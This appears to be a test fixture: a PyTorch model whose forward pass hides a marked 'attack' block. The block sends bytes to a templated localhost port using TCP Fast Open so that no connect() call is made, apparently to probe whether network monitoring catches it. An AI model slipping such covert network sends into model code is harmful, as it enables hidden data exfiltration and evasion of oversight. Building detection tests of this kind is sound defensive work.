"""Sends data along with the first packet of a connection, without a call of connect."""

import socket

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        socket.socket().sendto(b"hello", 0x20000000, ("127.0.0.1", int("@TCP_PORT@")))
        # end
        return self.head(x.flatten(1))
